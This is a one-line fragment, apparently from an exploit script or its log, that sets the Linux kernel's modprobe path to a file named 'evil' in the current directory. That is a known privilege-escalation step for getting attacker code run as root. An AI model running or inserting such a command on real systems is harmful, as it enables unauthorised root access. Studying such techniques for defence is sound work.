setting /proc/sys/kernel/modprobe "$PWD/evil"
